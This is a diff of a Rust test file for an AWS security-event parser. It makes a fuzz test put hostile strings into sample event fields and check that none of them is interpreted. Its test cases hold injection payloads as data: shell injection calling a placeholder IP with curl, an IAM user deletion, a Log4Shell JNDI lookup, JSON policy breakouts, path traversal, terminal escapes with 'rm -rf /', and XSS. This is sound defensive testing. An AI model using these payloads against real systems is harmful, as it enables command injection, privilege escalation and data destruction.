@@ -8,7 +8,7 @@ use tourniquet::event::{Parsed, parse};
 
 use super::hostile::{pointers, with};
 use crate::checks::{event, walk};
-use crate::support::samples;
+use crate::support::{ONE_OF_EACH_FEED, samples};
 
 /// What stands in the place of the value until the event is text; JSON text written in its stead keeps the rest.
 const PLACE: &str = "\u{e000}";
@@ -30,20 +30,22 @@ fn follow(bytes: &[u8], known: &[Parsed]) -> (usize, usize) {
     (findings.len(), findings.iter().map(|finding| walk::check(finding)).sum())
 }
 
-/// Puts every one of `texts` in the place of every value of every sample event; how many findings that made.
-fn everywhere(texts: &[&str]) -> (usize, usize) {
-    let texts: Vec<String> = texts.iter().map(|text| Value::from(*text).to_string()).collect();
+/// Puts one of `texts` in the place of every other value of the sample events of these names, beginning with the first
+/// or the second; how many findings and steps that made. So half the lists meet every field, with a text each, and
+/// every list meets half the fields: all of them with all take minutes.
+fn everywhere(names: impl Fn(&str) -> bool, turn: usize, texts: &[&str]) -> (usize, usize) {
+    let mut turns = texts.iter().map(|text| Value::from(*text).to_string()).cycle();
     let place = Value::from(PLACE).to_string();
     let mut made = (0, 0);
-    for (_, bytes) in samples() {
+    for (_, bytes) in samples().iter().filter(|(name, _)| names(name)) {
         let event: Value = serde_json::from_slice(bytes).expect("JSON");
         let known = parse(bytes);
-        for pointer in pointers(&event).iter().filter(|at| event.pointer(at).is_some_and(is_leaf)) {
-            let template = String::from_utf8(with(&event, pointer, PLACE.into())).expect("text");
-            for text in &texts {
-                let (findings, steps) = follow(template.replacen(&place, text, 1).as_bytes(), &known);
-                made = (made.0 + findings, made.1 + steps);
-            }
+        let leaves = pointers(&event).into_iter().filter(|at| event.pointer(at).is_some_and(is_leaf));
+        for pointer in leaves.skip(turn).step_by(2) {
+            let template = String::from_utf8(with(&event, &pointer, PLACE.into())).expect("text");
+            let text = turns.next().expect("a text");
+            let (findings, steps) = follow(template.replacen(&place, &text, 1).as_bytes(), &known);
+            made = (made.0 + findings, made.1 + steps);
         }
     }
     made
@@ -60,15 +62,15 @@ fn every_sample_is_followed_to_the_end() {
 }
 
 #[rstest]
-#[case::what_a_shell_runs(&["$(curl http://203.0.113.1)", "'; aws iam delete-user --user-name jdoe; '", "a\\' && id #"])]
-#[case::what_looks_like_an_option(&["--profile=attacker", "-rf"])]
-#[case::what_ends_a_json_string(&["\"}],\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}", "\\\""])]
-#[case::what_a_formatter_fills_in(&["%s%s%n%x", "{}{0:?}{finding}", "${jndi:ldap://203.0.113.1/a}"])]
-#[case::where_a_path_leads(&["../../guardrails.toml", "..", "a/../../targets/111122223333/root/root", "/"])]
-#[case::what_a_terminal_obeys(&["\u{1b}[2J\u{1b}]0;owned\u{7}", "line one\nHOW TO UNDO\n  rm -rf /\r\n", "a\0b", "\u{9b}31m"])]
-#[case::what_turns_a_line_round(&["\u{202e}dlrow", "\u{2066}\u{200b}\u{feff}a\u{e0041}"])]
-#[case::what_a_browser_runs(&["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)"])]
-#[case::who_is_named_in_another_s_place(&[
+#[case::what_a_shell_runs(0, &["$(curl http://203.0.113.1)", "'; aws iam delete-user --user-name jdoe; '", "a\\' && id #"])]
+#[case::what_looks_like_an_option(1, &["--profile=attacker", "-rf"])]
+#[case::what_ends_a_json_string(0, &["\"}],\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}", "\\\""])]
+#[case::what_a_formatter_fills_in(1, &["%s%s%n%x", "{}{0:?}{finding}", "${jndi:ldap://203.0.113.1/a}"])]
+#[case::where_a_path_leads(0, &["../../guardrails.toml", "..", "a/../../targets/111122223333/root/root", "/"])]
+#[case::what_a_terminal_obeys(1, &["\u{1b}[2J\u{1b}]0;owned\u{7}", "line one\nHOW TO UNDO\n  rm -rf /\r\n", "a\0b", "\u{9b}31m"])]
+#[case::what_turns_a_line_round(0, &["\u{202e}dlrow", "\u{2066}\u{200b}\u{feff}a\u{e0041}"])]
+#[case::what_a_browser_runs(1, &["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)"])]
+#[case::who_is_named_in_another_s_place(0, &[
     "arn:aws:iam::444455556666:user/admin",
     "arn:aws:iam::111122223333:role/a\",\"arn:aws:iam::111122223333:root",
     "arn:aws:guardduty:eu-west-1:111122223333:detector/../finding/'",
@@ -76,19 +78,21 @@ fn every_sample_is_followed_to_the_end() {
     "*",
     "root",
 ])]
-#[case::ids_of_a_wrong_form(&["AKIA", "AIDA\u{1f980}", "ASIASVCBUILDQEXAMPLE:x", "AROADEVELOPERQEXAMPLE:a:b", "akiasvcbuildqexample"])]
-#[case::ids_of_another_thing(&["AKIASVCBUILDQEXAMPLE", "ASIASVCBUILDQEXAMPLE", "AROADEVELOPERQEXAMPLE", "i-0a1b2c3d4e5f67890"])]
-#[case::no_text_at_all(&["", " ", "\u{301}", "0", "null", "true", "-1", "1e308"])]
-fn hostile_text_in_every_field_of_every_sample_is_never_interpreted(#[case] texts: &[&str]) {
-    let (findings, steps) = everywhere(texts);
+#[case::ids_of_a_wrong_form(1, &["AKIA", "AIDA\u{1f980}", "ASIASVCBUILDQEXAMPLE:x", "AROADEVELOPERQEXAMPLE:a:b", "akiasvcbuildqexample"])]
+#[case::ids_of_another_thing(0, &["AKIASVCBUILDQEXAMPLE", "ASIASVCBUILDQEXAMPLE", "AROADEVELOPERQEXAMPLE", "i-0a1b2c3d4e5f67890"])]
+#[case::no_text_at_all(1, &["", " ", "\u{301}", "0", "null", "true", "-1", "1e308"])]
+fn hostile_text_in_every_field_of_every_sample_is_never_interpreted(#[case] turn: usize, #[case] texts: &[&str]) {
+    let (findings, steps) = everywhere(|_| true, turn, texts);
     // Most fields decide nothing; of those that do, most still leave a finding.
-    assert!(findings > 100 * texts.len() && steps > 100 * texts.len(), "{findings} findings, {steps} steps");
+    assert!(findings > 100 && steps > 100, "{findings} findings, {steps} steps");
 }
 
 #[test]
-fn text_of_a_hundred_kilobytes_in_every_field_of_every_sample_is_cut() {
+fn text_of_a_hundred_kilobytes_in_every_field_of_a_sample_of_each_feed_is_cut() {
     let long = "'\u{1b}\u{e9}A".repeat(20_000);
     assert_eq!(long.len(), 100_000);
-    let (findings, steps) = everywhere(&[&long]);
-    assert!(findings > 100 && steps > 100, "{findings} findings, {steps} steps");
+    for turn in [0, 1] {
+        let (findings, steps) = everywhere(|name| ONE_OF_EACH_FEED.contains(&name), turn, &[&long]);
+        assert!(findings > 50 && steps > 50, "{findings} findings, {steps} steps");
+    }
 }
